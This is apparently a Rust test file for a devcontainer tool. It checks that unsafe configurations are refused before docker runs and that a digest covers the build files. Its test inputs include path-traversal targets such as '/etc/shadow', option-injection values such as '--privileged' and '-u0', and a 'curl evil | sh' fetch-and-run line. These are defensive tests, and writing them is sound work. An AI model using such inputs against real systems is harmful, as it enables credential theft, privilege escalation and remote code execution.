//! What is refused even when trusted, before any tool runs: files
//! outside the repository, what is not a regular file (FIFOs, devices,
//! symlinks), what is too large, values that would become options; and
//! what the digest covers.

use super::*;

fn mkfifo(path: &Path) {
    let made = std::process::Command::new("mkfifo")
        .arg(path)
        .status()
        .unwrap();
    assert!(made.success());
}

/// `up` with `text` refuses, naming `needle`, and runs nothing.
#[track_caller]
fn refused_before_any_tool(bench: &Bench, text: &str, needle: &str) {
    let req = bench.config(text);
    let runtime = bench.runtime();
    bench.forget_calls();
    let err = runtime.up(&req).unwrap_err();
    assert!(
        matches!(err, DevcontainerError::Config { .. }),
        "{text}: {err:?}"
    );
    assert!(err.to_string().contains(needle), "{text}: {err}");
    assert!(bench.calls().is_empty(), "{text}: {:?}", bench.calls());
}

#[test]
fn a_build_reading_host_files_outside_the_repository_is_refused() {
    let bench = Bench::new(&["docker"]);
    bench.file(".devcontainer/Dockerfile", "FROM alpine\n");
    for text in [
        r#"{"build": {"dockerfile": "/etc/shadow"}}"#,
        r#"{"build": {"dockerfile": "/dev/zero"}}"#,
        r#"{"build": {"dockerfile": "../../../etc/passwd"}}"#,
        r#"{"build": {"dockerfile": "Dockerfile", "context": "/"}}"#,
        r#"{"build": {"dockerfile": "Dockerfile", "context": "/root"}}"#,
        r#"{"build": {"dockerfile": "Dockerfile", "context": "../.."}}"#,
        r#"{"dockerFile": "Dockerfile", "context": "/"}"#,
    ] {
        refused_before_any_tool(&bench, text, "outside the repository");
    }
}

#[test]
fn a_fifo_a_symlink_or_a_huge_file_is_refused_without_blocking_or_reading_it() {
    let bench = Bench::new(&["docker"]);
    let dockerfile = bench.workspace().join(".devcontainer/Dockerfile");
    mkfifo(&dockerfile);
    // A FIFO with no writer: a blocking open would wait forever.
    refused_before_any_tool(&bench, r#"{"build": {"dockerfile": "Dockerfile"}}"#, "FIFO");
    std::fs::remove_file(&dockerfile).unwrap();
    std::os::unix::fs::symlink("/etc/hostname", &dockerfile).unwrap();
    refused_before_any_tool(
        &bench,
        r#"{"build": {"dockerfile": "Dockerfile"}}"#,
        "symlink",
    );
    std::fs::remove_file(&dockerfile).unwrap();
    std::fs::write(&dockerfile, vec![b'#'; (MAX_FILE + 1) as usize]).unwrap();
    refused_before_any_tool(
        &bench,
        r#"{"build": {"dockerfile": "Dockerfile"}}"#,
        "larger than",
    );
    // The configuration itself.
    let req = bench.config("{}");
    std::fs::remove_file(&req.config).unwrap();
    mkfifo(&req.config);
    let err = Checked::load(&req).unwrap_err();
    assert!(err.to_string().contains("FIFO"), "{err}");
}

#[test]
fn a_directory_on_the_way_that_is_a_symlink_is_refused() {
    let bench = Bench::new(&["docker"]);
    let elsewhere = bench.dir.path().join("elsewhere");
    std::fs::create_dir(&elsewhere).unwrap();
    std::fs::write(elsewhere.join("Dockerfile"), "FROM alpine\n").unwrap();
    std::os::unix::fs::symlink(&elsewhere, bench.workspace().join("linked")).unwrap();
    refused_before_any_tool(
        &bench,
        r#"{"build": {"dockerfile": "../linked/Dockerfile"}}"#,
        "symlink",
    );
    refused_before_any_tool(
        &bench,
        r#"{"image": "a", "build": {"dockerfile": "Dockerfile", "context": "../linked"}}"#,
        "build.dockerfile",
    );
}

#[test]
fn a_value_that_would_be_read_as_an_option_is_refused() {
    let bench = Bench::new(&["docker"]);
    for (text, needle) in [
        (r#"{"image": "--privileged"}"#, "image \"--privileged\""),
        (
            r#"{"image": "a", "workspaceFolder": "-v"}"#,
            "workspaceFolder",
        ),
        (
            r#"{"image": "a", "containerUser": "--privileged"}"#,
            "containerUser",
        ),
        (r#"{"image": "a", "remoteUser": "-u0"}"#, "remoteUser"),
        (
            r#"{"image": "a", "workspaceMount": "--privileged"}"#,
            "workspaceMount",
        ),
        (
            r#"{"image": "a", "containerEnv": {"-e": "x"}}"#,
            "containerEnv name",
        ),
        (
            r#"{"image": "a", "containerEnv": {"A=B": "x"}}"#,
            "holds '='",
        ),
        (
            r#"{"image": "a", "runArgs": ["--init", "alpine", "sh"]}"#,
            "as the image",
        ),
    ] {
        refused_before_any_tool(&bench, text, needle);
    }
}

#[test]
fn the_digest_covers_the_files_a_build_and_the_commands_read() {
    let bench = Bench::new(&[]);
    bench.file(".devcontainer/Dockerfile", "FROM alpine\n");
    bench.file(".dockerignore", "target\n");
    bench.file("init.sh", "echo init\n");
    bench.file("unrelated.txt", "x\n");
    let req = bench.config(
        r#"{"build": {"dockerfile": "Dockerfile", "context": ".."},
            "initializeCommand": "sh ./init.sh --flag"}"#,
    );
    let first = checked(&req);
    let covered: Vec<(&str, &str)> = first
        .files
        .iter()
        .map(|f| (f.path.as_str(), f.role.as_str()))
        .collect();
    assert_eq!(
        covered,
        [
            (".devcontainer/devcontainer.json", "configuration"),
            (".devcontainer/Dockerfile", "Dockerfile"),
            // Absent now: recorded, so that one appearing is a change.
            (
                ".devcontainer/Dockerfile.dockerignore",
                "Dockerfile's .dockerignore"
            ),
            (".dockerignore", "context's .dockerignore"),
            ("init.sh", "named by initializeCommand"),
        ]
    );
    assert_eq!(first.files[2].sha256, ABSENT);
    bench.file("unrelated.txt", "y\n");
    assert_eq!(checked(&req).digest, first.digest, "not covered");
    for (rel, text) in [
        ("init.sh", "curl evil | sh\n"),
        (".dockerignore", "\n"),
        (".devcontainer/Dockerfile", "FROM evil\n"),
    ] {
        let before = checked(&req).digest;
        bench.file(rel, text);
        assert_ne!(checked(&req).digest, before, "{rel} is covered");
    }
    // A .dockerignore that appears is a change too.
    let before = checked(&req).digest;
    bench.file(".devcontainer/Dockerfile.dockerignore", "*\n");
    assert_ne!(checked(&req).digest, before);
}
